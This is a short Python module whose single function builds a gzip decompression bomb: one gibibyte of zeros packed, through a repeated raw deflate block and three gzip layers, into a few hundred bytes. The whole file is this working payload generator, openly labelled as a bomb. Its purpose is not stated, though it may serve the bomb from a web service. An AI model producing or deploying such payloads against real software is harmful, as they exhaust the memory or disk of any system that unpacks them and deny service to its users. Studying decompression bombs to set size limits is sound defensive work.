"""A gzip bomb: one gibibyte of zeros in 230 bytes, packed three times, made without packing a gibibyte."""

from __future__ import annotations

import asyncio
import gzip
import struct
import zlib

MIB = 1024 * 1024
UNPACKED = 1024 * MIB


async def gzip_bomb(size: int = UNPACKED) -> bytes:
    """``size`` zero bytes (whole MiB) under three layers of gzip. The loop runs between any two MiB."""
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A full flush ends on a byte and forgets all history, so this block can be repeated as it is (RFC 1951).
    packed = block.compress(bytes(MIB)) + block.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(size // MIB):
        check = zlib.crc32(bytes(MIB), check)
        await asyncio.sleep(0)
    header, end = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff", b"\x03\x00"
    once = header + packed * (size // MIB) + end + struct.pack("<II", check, size & 0xFFFFFFFF)
    return gzip.compress(gzip.compress(once, mtime=0), mtime=0)
